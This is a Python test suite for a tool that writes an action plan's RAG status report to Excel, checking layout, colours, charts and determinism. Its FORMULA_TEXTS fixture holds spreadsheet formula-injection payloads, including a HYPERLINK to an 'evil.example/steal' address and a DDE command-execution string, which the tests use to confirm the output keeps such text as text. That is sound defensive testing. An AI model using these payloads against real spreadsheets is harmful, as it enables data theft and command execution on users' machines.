"""--format xlsx: the plan with its RAG in Excel, coloured, filtered, and text always text."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import hashlib
import io
import re
import shutil
import subprocess
import zipfile
from xml.etree import ElementTree

import openpyxl
import pypdf
import pytest
from factories import (
    COMPLETED,
    HOSTILE_TEXT,
    MINOR,
    action,
    digital_inclusion_plan,
    listing,
    make_context,
    with_progress,
)

from wfs_reports.cli import main
from wfs_reports.config import load_templates
from wfs_reports.domain.trend import Trend
from wfs_reports.render.xlsx import render_xlsx
from wfs_reports.report.view import Changes

CHART = "http://schemas.openxmlformats.org/drawingml/2006/chart"
FORMULA_TEXTS = [
    '=HYPERLINK("http://evil.example/steal?x=1","Click for update")',
    "=1+1",
    "+44 20 7364 5000",
    "-5% against plan",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
]


def workbook_of(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(name).decode("utf-8") for name in archive.namelist()
                       if name.startswith("xl/worksheets/"))


def header(sheet) -> list[str]:
    return [cell.value for cell in sheet[1]]


def column(sheet, name: str) -> list:
    index = header(sheet).index(name)
    return [row[index].value for row in sheet.iter_rows(min_row=2)]


# ---------------------------------------------------------------- the renderer


@pytest.fixture(scope="module")
def rendered():
    context = make_context()
    return context, render_xlsx(context)


def test_actions_sheet_has_one_row_per_action_in_report_order(rendered):
    context, result = rendered
    sheet = workbook_of(result.data)["Actions"]
    assert header(sheet) == ["Recommendation", "Recommendation text", "No.", "Action", "Owner(s)",
                             "Completion Date", "Due date(s)", "Status", "Comments",
                             "RAG Override", "Override Reason", "Last Updated", "RAG Status",
                             "Why", "Workbook row"]
    actions = [a for r in context.recommendations for a in r.actions]
    assert sheet.max_row == 1 + len(actions)
    assert column(sheet, "Action") == [a.action for a in actions]
    assert column(sheet, "No.") == [a.number for a in actions]
    assert len(set(column(sheet, "No."))) == len(actions)
    assert column(sheet, "Workbook row") == [a.row for a in actions]
    assert column(sheet, "Recommendation") == [a.ref for a in actions]
    assert column(sheet, "RAG Status") == [a.rag.label for a in actions]
    assert column(sheet, "Why") == [a.computed_comment for a in actions]
    assert column(sheet, "Completion Date")[0] == "Stage 1: Q4 2023-24 Stage 2: TBC"
    assert column(sheet, "Due date(s)")[0] == "Stage 1: 31/03/2024; Stage 2: TBC"
    assert column(sheet, "Due date(s)")[1].date().isoformat() == "2024-03-31"
    assert column(sheet, "Recommendation text") == [r.text for r in context.recommendations
                                                    for _a in r.actions]


def test_a_not_applicable_action_is_due_never_not_tbc(rendered):
    context, result = rendered
    sheet = workbook_of(result.data)["Actions"]
    rows = dict(zip(column(sheet, "Action"), column(sheet, "Due date(s)"), strict=True))
    assert rows["Not applicable for the ICB"] == "Not applicable"
    # A stage still to be dated in an action that is going ahead is TBC, as written.
    assert rows["Stage 1: develop a core data set.\nSecond line & more"].endswith("Stage 2: TBC")


def test_the_officers_override_reason_and_last_update_are_kept():
    rec = make_context().recommendations[0]
    overridden = dataclasses.replace(rec, actions=(
        dataclasses.replace(rec.actions[1], override="missed", override_reason="Funding lost",
                            last_updated="2023-10-02"),
        dataclasses.replace(rec.actions[0], override=None, last_updated=None)))
    sheet = workbook_of(render_xlsx(make_context([overridden])).data)["Actions"]
    assert column(sheet, "RAG Override") == ["Missed target requires action", None]
    assert column(sheet, "Override Reason") == ["Funding lost", None]
    updated = column(sheet, "Last Updated")
    assert updated[0].date().isoformat() == "2023-10-02" and updated[1] is None
    assert sheet.cell(row=2, column=header(sheet).index("Last Updated") + 1).is_date


def test_rag_cells_are_filled_and_lettered_in_the_rules_colours(rendered):
    context, result = rendered
    sheet = workbook_of(result.data)["Actions"]
    rag_column = header(sheet).index("RAG Status")
    actions = [a for r in context.recommendations for a in r.actions]
    for row, item in zip(sheet.iter_rows(min_row=2), actions, strict=True):
        cell = row[rag_column]
        if item.rag.fill:
            assert cell.fill.fill_type == "solid"
            assert cell.fill.fgColor.rgb[-6:] == item.rag.fill.lstrip("#").upper()
        else:
            assert cell.fill.fill_type is None
        assert cell.font.color.rgb[-6:] == item.rag.text_colour.lstrip("#").upper()
        assert cell.font.b


def test_header_is_frozen_filtered_wrapped_and_sized(rendered):
    _context, result = rendered
    workbook = workbook_of(result.data)
    assert workbook.sheetnames == ["Actions", "Summary", "Exceptions"]
    sheet = workbook["Actions"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:O{sheet.max_row}"
    assert sheet.column_dimensions["D"].width >= 40  # Action
    assert all(cell.alignment.wrap_text for row in sheet.iter_rows() for cell in row)
    assert sheet.row_dimensions[4].height > 15  # the 300-character action wraps


def test_text_is_never_a_formula(rendered):
    context, _result = rendered
    rec = context.recommendations[0]
    hostile = [dataclasses.replace(rec.actions[0], action=text, owners=text, comments=text)
               for text in FORMULA_TEXTS]
    data = render_xlsx(make_context([dataclasses.replace(rec, actions=tuple(hostile))])).data
    xml = sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml
    sheet = workbook_of(data)["Actions"]
    assert column(sheet, "Action") == FORMULA_TEXTS
    assert all(c.data_type == "s" for c in sheet["D"][1:])
    assert all(c.quotePrefix for c in sheet["D"][1:])


def test_hostile_text_is_kept_literally(rendered):
    _context, result = rendered
    sheet = workbook_of(result.data)["Actions"]
    assert HOSTILE_TEXT in column(sheet, "Comments")


def test_characters_excel_cannot_hold_are_dropped_with_a_warning_naming_the_cell():
    context = make_context()
    rec = context.recommendations[0]
    bad = dataclasses.replace(rec.actions[0], comments="Bell\x07 and form\x0cfeed",
                              cells={"comments": "Actions!F2"})
    result = render_xlsx(make_context([dataclasses.replace(rec, actions=(bad,))]))
    sheet = workbook_of(result.data)["Actions"]
    assert sheet["I2"].value == "Bell and formfeed"
    # Located at the workbook's cell (F2), where the officer can act; the
    # report's own cell (I2) named in words, not as if it were the workbook's.
    assert [(p.kind.value, p.where) for p in result.problems] == [("character_dropped",
                                                                   "Actions!F2")]
    assert result.problems[0].message == (
        "2 character(s) Excel cannot hold (U+0007, U+000C) were left out of the Excel "
        "report's Actions!I2")


def test_a_worked_out_cell_names_the_action_it_belongs_to():
    context = make_context()
    rec = context.recommendations[0]
    bad = dataclasses.replace(rec.actions[0], computed_comment="Bell\x07")
    result = render_xlsx(make_context([dataclasses.replace(rec, actions=(bad,))]))
    assert [p.where for p in result.problems] == [""]
    assert "the Excel report's Actions!N2 (the action on row 2 of the workbook)" in (
        result.problems[0].message)


def test_trend_column_only_with_an_earlier_report(rendered):
    context, _result = rendered
    rec = context.recommendations[0]
    trending = dataclasses.replace(rec, actions=tuple(
        dataclasses.replace(a, rag_previous=MINOR, trend=Trend.BETTER) for a in rec.actions))
    compared = dataclasses.replace(
        make_context([trending]),
        changes=Changes("1 September 2023", "old.json", (), (), (), (), ()))
    sheet = workbook_of(render_xlsx(compared).data)["Actions"]
    assert "Trend" in header(sheet)
    assert set(column(sheet, "Trend")) == {"↑ better"}
    assert "Trend" not in header(workbook_of(_result.data)["Actions"])


def test_summary_counts_per_recommendation_and_overall(rendered):
    context, result = rendered
    sheet = workbook_of(result.data)["Summary"]
    assert header(sheet) == ["Recommendation", "Completed Action",
                             "On target but with minor issues", "Missed target requires action",
                             "Not applicable", "Total counted"]
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=2, max_row=4)]
    assert rows == [["Recommendation 1", 1, 0, 1, 0, 2], ["Recommendation 2", 0, 1, 0, 1, 1],
                    ["All recommendations", 1, 1, 1, 1, 3]]
    assert sheet["B1"].fill.fgColor.rgb[-6:] == COMPLETED.fill.lstrip("#").upper()
    assert context.source_sha256 in [c.value for c in sheet["B"]]


def test_exceptions_sheet_names_each_cell(rendered):
    context, result = rendered
    sheet = workbook_of(result.data)["Exceptions"]
    assert header(sheet) == ["Recommendation", "Cell", "Action", "Issue", "Kind"]
    assert [c.value for c in sheet[2]] == ["Recommendation 1", "Actions!D3", "Action on row 3",
                                          context.exceptions[0].message, "missed"]


def test_no_exceptions_says_so():
    context = dataclasses.replace(make_context(), exceptions=())
    sheet = workbook_of(render_xlsx(context).data)["Exceptions"]
    assert sheet["A2"].value == "No exceptions."


def test_the_charts_labels_are_the_counts_alone():
    """Each part of a column is labelled with its count only (nothing for nought):
    a label that also named the report and the RAG overlapped the next one in
    LibreOffice."""
    data = render_xlsx(with_progress(make_context())).data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        chart = ElementTree.fromstring(archive.read("xl/charts/chart1.xml"))
    labels = chart.findall(f".//{{{CHART}}}ser/{{{CHART}}}dLbls")
    assert len(labels) == 3  # one per RAG
    for label in labels:
        shown = {child.tag.split("}")[1]: child.get("val") for child in label
                 if child.tag.split("}")[1].startswith("show")}
        assert shown["showVal"] == "1"
        assert {k: v for k, v in shown.items() if k != "showVal"} == {
            "showLegendKey": "0", "showCatName": "0", "showSerName": "0", "showPercent": "0",
            "showBubbleSize": "0", "showLeaderLines": "0"}
        assert label.find(f"{{{CHART}}}numFmt").get("formatCode") == "0;-0;;"


def test_same_context_gives_the_same_bytes(rendered):
    context, result = rendered
    again = render_xlsx(context).data
    assert again == result.data
    with zipfile.ZipFile(io.BytesIO(again)) as archive:
        assert {i.date_time for i in archive.infolist()} == {(2023, 11, 22, 0, 0, 0)}


# ---------------------------------------------------------------- make-report --format xlsx


def rules_rows() -> list[list]:
    """One action per RAG rule, as at 22 November 2023."""
    return [
        action(1, "Completed", due="Q2 2023-24", status="Completed"),
        action(1, "Not applicable for the ICB", due="", status="Not applicable", owners=""),
        action(1, "Missed", due="Q1 2023-24"),
        action(1, "Date to be confirmed", due="TBC"),
        action(2, "Ongoing", due="Ongoing"),
        action(2, "At risk", due="30/11/2023", status="Not started"),
        action(2, "On target", due="Q4 2023-24"),
        action(2, "Stale", due="Q4 2023-24", updated="01/06/2023"),
        action(2, "Overridden with reason", due="Q4 2023-24",
               override="Missed target requires action", reason="Slipping"),
        action(2, "Override refused", due="Q1 2023-24", override="G"),
        action(2, "Unreadable date", due="when pigs fly"),
    ]


def hostile_workbook(make_workbook):
    rows = [action(1, text, owners=text, comments=text) for text in FORMULA_TEXTS]
    rows.append(action(1, HOSTILE_TEXT, comments=HOSTILE_TEXT))

    def as_text(workbook):  # an officer's "=..." typed as text ('=...) in Excel
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows(min_row=2):
                for cell in row:
                    if isinstance(cell.value, str) and cell.value.startswith("="):
                        cell.data_type = "s"

    return make_workbook(rows, recommendations=[[1, "=HYPERLINK(\"x\",\"y\") first", ""]],
                         customise=as_text, name="hostile.xlsx")


def digest(path) -> tuple[str, int]:
    return hashlib.sha256(path.read_bytes()).hexdigest(), path.stat().st_mtime_ns


@pytest.mark.parametrize("which", ["rules", "hostile"])
def test_make_report_xlsx_one_coloured_row_per_action_and_no_formulas(make_workbook, tmp_path,
                                                                       which):
    workbook = make_workbook(rules_rows()) if which == "rules" else hostile_workbook(
        make_workbook)
    before = digest(workbook)
    out = tmp_path / "out"
    assert main([str(workbook), "--out", str(out), "--format", "xlsx,json", "--quiet"]) == 0
    assert digest(workbook) == before
    data = (out / "WFS Action Plan Update - 2023-11-22.xlsx").read_bytes()
    assert "<f>" not in sheet_xml(data)
    source = openpyxl.load_workbook(workbook)["Actions"]
    sheet = workbook_of(data)["Actions"]
    assert sheet.max_row == source.max_row  # one row per action (and one header)
    assert column(sheet, "Action") == [c.value for c in source["B"][1:]]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:")
    rules = load_templates(None).rules
    fills = {look.label: look for look in rules.looks.values()}
    rag_column = header(sheet).index("RAG Status")
    for row in sheet.iter_rows(min_row=2):
        look = fills[row[rag_column].value]
        if look.fill:
            assert row[rag_column].fill.fgColor.rgb[-6:] == look.fill.lstrip("#").upper()
        assert row[rag_column].font.color.rgb[-6:] == look.text_colour.lstrip("#").upper()
    if which == "rules":
        assert set(column(sheet, "RAG Status")) == {look.label for look in fills.values()}
    else:
        assert column(sheet, "Comments")[0] == FORMULA_TEXTS[0]


def test_xlsx_combines_with_every_other_format(make_workbook, tmp_path, capsys):
    workbook = make_workbook(rules_rows())
    out = tmp_path / "out"
    assert main([str(workbook), "--out", str(out), "--format", "docx,pdf,json,xlsx"]) == 0
    assert sorted(p.suffix for p in listing(out)) == [".docx", ".json", ".pdf", ".xlsx"]
    assert ".xlsx." in capsys.readouterr().out.splitlines()[-1]


def test_same_workbook_gives_the_same_xlsx_bytes(make_workbook, tmp_path):
    workbook = make_workbook(rules_rows())
    for name in ("first", "second"):
        assert main([str(workbook), "--out", str(tmp_path / name), "--format", "xlsx",
                     "--quiet"]) == 0
    name = "WFS Action Plan Update - 2023-11-22.xlsx"
    assert (tmp_path / "first" / name).read_bytes() == (tmp_path / "second" / name).read_bytes()


def test_the_report_is_never_written_over_the_workbook_it_reads(make_workbook, tmp_path, capsys):
    workbook = make_workbook(rules_rows(), name="WFS Action Plan Update - 2023-11-22.xlsx")
    before = digest(workbook)
    assert main([str(workbook), "--out", str(workbook.parent), "--format", "xlsx"]) == 1
    assert digest(workbook) == before
    assert "this is the workbook being read" in capsys.readouterr().err


# ---------------------------------------------------------------- LibreOffice Calc


def _calc_or_skip(tmp_path) -> str:
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    # soffice without its Calc module (e.g. only libreoffice-writer) opens no workbook at
    # all: try a plain openpyxl workbook first, so that is a skip, not a failure.
    probe = tmp_path / "probe.xlsx"
    blank = openpyxl.Workbook()
    blank.active["A1"] = "probe"
    blank.save(probe)
    if not _to_csv(soffice, probe, tmp_path).exists():
        pytest.skip("LibreOffice Calc is not installed (soffice cannot open any .xlsx)")
    return soffice


def _to_csv(soffice: str, path, tmp_path):
    subprocess.run(
        [soffice, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
         "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir",
         str(tmp_path / "csv"), str(path)],
        capture_output=True, timeout=180, check=False,
    )
    return tmp_path / "csv" / f"{path.stem}.csv"


def test_libreoffice_calc_opens_it_and_keeps_formula_text_as_text(make_workbook, tmp_path):
    soffice = _calc_or_skip(tmp_path)
    out = tmp_path / "out"
    assert main([str(hostile_workbook(make_workbook)), "--out", str(out), "--format", "xlsx",
                 "--quiet"]) == 0
    converted = _to_csv(soffice, out / "WFS Action Plan Update - 2023-11-22.xlsx", tmp_path)
    rows = list(csv.reader(io.StringIO(converted.read_text(encoding="utf-8"))))
    assert rows[0][:5] == ["Recommendation", "Recommendation text", "No.", "Action",
                           "Owner(s)"]
    assert [row[3] for row in rows[1:]] == FORMULA_TEXTS + [HOSTILE_TEXT]
    assert not any(re.fullmatch(r"2|Click for update|#\w+[!?]?", row[3]) for row in rows)


def test_libreoffice_labels_the_charts_parts_with_their_counts_alone(tmp_path):
    """Drawn by LibreOffice, a part's label is its count: no report date, RAG name or
    legend key beside it, which overlapped the next part's label."""
    soffice = _calc_or_skip(tmp_path)
    path = tmp_path / "progress.xlsx"
    path.write_bytes(render_xlsx(with_progress(make_context())).data)
    subprocess.run(
        [soffice, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
         "--convert-to", "pdf", "--outdir", str(tmp_path / "pdf"), str(path)],
        capture_output=True, timeout=180, check=False)
    pages = [" ".join(page.extract_text().split())
             for page in pypdf.PdfReader(tmp_path / "pdf" / "progress.pdf").pages]
    (chart,) = [text for text in pages if "Actions counted" in text]
    # LibreOffice joins a label's parts with "; " ("22 Nov 2023; ■ Missed ...; 2").
    assert ";" not in chart, chart


# ---------------------------------------------------------------- a working copy, two quarters


VOLUNTEERS = ("Train library volunteers as digital champions, so that every branch library "
              "has someone on hand on Saturdays to help residents get online")


def two_quarters_of_digital_inclusion(tmp_path):
    """The Digital Inclusion plan at 30 June 2024, then at 30 September 2024 with the
    laptops lent, the Wi-Fi slipped a quarter, an override and a not-applicable action;
    returns the September report's xlsx bytes and the plan."""
    out = tmp_path / "out"
    june = digital_inclusion_plan(tmp_path / "digital inclusion.xlsx")
    assert main([str(june), "--out", str(out), "--format", "json", "--quiet"]) == 0
    september = digital_inclusion_plan(
        tmp_path / "digital inclusion.xlsx", as_at=dt.date(2024, 9, 30),
        actions=[
            action(1, "Install public Wi-Fi in the six branch libraries", "Libraries Manager",
                   "Q3 2024-25", "In progress", "Five of six branches live",
                   updated="15/09/2024"),
            action(1, "Lend 200 refurbished laptops", "Digital Inclusion Lead", "Q4 2024-25",
                   "Completed", "All 200 lent"),
            action(2, "Run digital champion training for housing officers",
                   "Housing Training Lead", "Q1 2024-25", "Completed", "42 officers trained"),
            action(2, VOLUNTEERS, "Volunteer Lead",
                   "Q4 2024-25", "In progress", override="Missed target requires action",
                   reason="The trainer left in August", updated="20/09/2024"),
            action(2, "Train mobile library staff", "", "N/A", "Not applicable"),
        ])
    assert main([str(september), "--out", str(out), "--format", "xlsx", "--quiet"]) == 0
    (written,) = out.glob("* - 2024-09-30.xlsx")
    return written, september


def rows_of(sheet) -> list[dict]:
    names = header(sheet)
    return [dict(zip(names, (c.value for c in row), strict=False))
            for row in sheet.iter_rows(min_row=2) if row[0].value is not None]


def test_a_later_quarter_has_the_changes_since_the_last_report(tmp_path):
    written, _plan = two_quarters_of_digital_inclusion(tmp_path)
    changes = workbook_of(written.read_bytes())["Changes since the last report"]
    assert header(changes) == ["Change", "Recommendation", "Action", "What changed",
                               "Workbook row"]
    listed = {(r["Change"], r["Action"]) for r in rows_of(changes) if r["Recommendation"]}
    assert ("Completed since the last report", "Lend 200 refurbished laptops") in listed
    assert ("Slipped: due date moved later",
            "Install public Wi-Fi in the six branch libraries") in listed
    assert ("New actions", VOLUNTEERS) in listed
    assert not any(action.endswith("…") for _change, action in listed)  # whole, not cut
    slipped = next(r for r in rows_of(changes) if r["Change"].startswith("Slipped"))
    assert "30 September 2024" in slipped["What changed"]  # Q2 2024-25 ...
    assert "31 December 2024" in slipped["What changed"]  # ... moved to Q3 2024-25
    assert slipped["Workbook row"] == 2
    assert any(str(c.value).startswith("Compared with the report as at 30 June 2024")
               for row in changes.iter_rows() for c in row if c.value)


def test_the_first_report_has_no_changes_sheet(tmp_path):
    plan = digital_inclusion_plan(tmp_path / "digital inclusion.xlsx")
    assert main([str(plan), "--out", str(tmp_path), "--format", "xlsx", "--quiet"]) == 0
    (written,) = tmp_path.glob("* - 2024-06-30.xlsx")
    assert workbook_of(written.read_bytes()).sheetnames == ["Actions", "Summary", "Exceptions"]


def test_the_working_copy_keeps_the_officers_columns_and_the_recommendation(tmp_path):
    written, _plan = two_quarters_of_digital_inclusion(tmp_path)
    actions = {r["Action"]: r for r in rows_of(workbook_of(written.read_bytes())["Actions"])}
    volunteers = actions[VOLUNTEERS]
    assert volunteers["RAG Override"] == "Missed target requires action"
    assert volunteers["Override Reason"] == "The trainer left in August"
    assert volunteers["Last Updated"].date() == dt.date(2024, 9, 20)
    assert volunteers["Recommendation text"] == \
        "Train front-line staff to help residents use online services"
    assert actions["Install public Wi-Fi in the six branch libraries"]["Recommendation text"] \
        == "Give residents without internet access a way online in every library"
    assert actions["Train mobile library staff"]["Due date(s)"] == "Not applicable"
    assert actions["Lend 200 refurbished laptops"]["RAG Override"] is None


def test_make_report_on_its_own_xlsx_says_in_one_line_it_is_a_report(tmp_path, capsys):
    written, _plan = two_quarters_of_digital_inclusion(tmp_path)
    capsys.readouterr()
    assert main([str(written), "--out", str(tmp_path / "again")]) != 0
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1, err
    assert "this is a report make-report wrote, not the plan" in err
    assert "(digital inclusion.xlsx)" in err
    assert "Traceback" not in err


def test_its_own_xlsx_is_known_after_excel_drops_the_properties(tmp_path, capsys):
    written, _plan = two_quarters_of_digital_inclusion(tmp_path)
    workbook = openpyxl.load_workbook(written)
    workbook.properties.description = None
    resaved = tmp_path / "resaved.xlsx"
    workbook.save(resaved)
    capsys.readouterr()
    assert main([str(resaved), "--out", str(tmp_path / "again")]) != 0
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1, err
    assert err.endswith("run make-report on the plan workbook it was made from")


def test_a_plan_with_summary_and_exceptions_sheets_is_still_a_plan(tmp_path):
    """An officer's own extra sheets do not make a plan a report."""
    def extra(workbook):
        for name in ("Summary", "Exceptions"):
            workbook.create_sheet(name)
        workbook.move_sheet("Actions", offset=-workbook.index(workbook["Actions"]))
    plan = digital_inclusion_plan(tmp_path / "plan.xlsx", customise=extra)
    assert main([str(plan), "--out", str(tmp_path / "out"), "--format", "json",
                 "--quiet"]) == 0
